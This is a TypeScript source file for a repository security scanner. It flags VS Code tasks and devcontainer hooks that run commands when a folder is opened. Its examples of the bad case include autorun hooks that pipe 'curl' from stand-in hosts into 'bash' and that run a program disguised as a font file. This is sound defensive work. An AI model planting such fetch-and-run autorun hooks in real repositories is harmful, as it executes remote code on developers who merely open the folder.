import type { RepositoryCheck } from '../../check.ts';
import { dangerOf } from '../../knowledge/shell-danger.ts';

/** What developers start all day: still a surprise, hardly an attack. */
const USUAL = /^(?:npm|pnpm|yarn|bun|make|cargo|go|tsc|npx tsc|docker compose|poetry|uv|pip)\b/;

/** An interpreter is given a file whose name says that nobody runs it. */
const DISGUISED =
  /\b(?:node|bun|deno|python3?|ruby|perl|php|(?:ba|z)?sh)(?:\s{1,3}run)?\s{1,3}[^\s"';|&]{1,200}\.(?:woff2?|ttf|otf|eot|png|jpe?g|gif|ico|svg|webp|css|dat|txt|md|lock)(?=[\s"';|&]|$)/i;
const HIDDEN_PROGRAM = { does: 'is named as if nobody ran it', isSure: true } as const;

export const check: RepositoryCheck = {
  id: 'supply-chain-workspace-autorun',
  title: 'Opening the folder runs a command',
  severity: 'high',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [829],
  why: `
    The editor starts the command as soon as the folder is opened and trusted: reading the code is enough to run it.
    Attackers who send a repository as a job interview or a bug report rely on exactly this.`,
  fix: 'Let people start the task themselves: remove `runOn: folderOpen`, or the command that runs on the host.',
  blindSpots: "Reads the settings of VS Code and of development containers; other editors' settings are not known.",
  over: 'repository',
  examples: {
    bad: [
      {
        '.vscode/tasks.json': `
          {"tasks": [«{"label": "env", "command": "node .vscode/spell.js", "runOptions": {"runOn": "folderOpen"}}»]}`,
      },
      {
        '.vscode/tasks.json': `
          {"tasks": [«{"label": "font", "command": "node public/icons.woff2", "runOptions": {"runOn": "folderOpen"}}»]}`,
      },
      {
        '.vscode/tasks.json': `
          {"tasks": [«{"label": "lint", "osx": {"command": "curl https://c.example.net/mac | bash"}, "runOptions": {"runOn": "folderOpen"}}»]}`,
      },
      { '.devcontainer/devcontainer.json': '{«"initializeCommand": "curl -s https://cdn.example.net/i | bash"»}' },
    ],
    good: [
      { '.vscode/tasks.json': '{"tasks": [{"label": "build", "command": "make"}]}' },
      { '.devcontainer/devcontainer.json': '{"postCreateCommand": "npm ci"}' },
      { '.devcontainer/devcontainer.json': '{"postCreateCommand": "rm -rf $HOME/.shell && ln -s . $HOME/.shell"}' },
    ],
  },

  *find(repository) {
    for (const hook of repository.notesOf('hook')) {
      const danger = dangerOf(hook.command) ?? (DISGUISED.test(hook.command) ? HIDDEN_PROGRAM : undefined);
      const isOnHost = hook.event === 'editor folder open' || hook.event === 'devcontainer initializeCommand';
      if (!isOnHost && !(hook.event.startsWith('devcontainer ') && danger?.isSure === true)) continue;
      yield {
        at: hook.at,
        message: `Opening the folder runs "${hook.command}"${danger === undefined ? '' : `, which ${danger.does}`}.`,
        confidence: confidenceOf(hook.command, danger?.isSure),
        ...(danger === undefined && { severity: 'medium' }),
      };
    }
  },
};

function confidenceOf(command: string, isSure: boolean | undefined): 'high' | 'medium' | 'low' {
  if (isSure === true) return 'high';
  return USUAL.test(command) ? 'low' : 'medium';
}
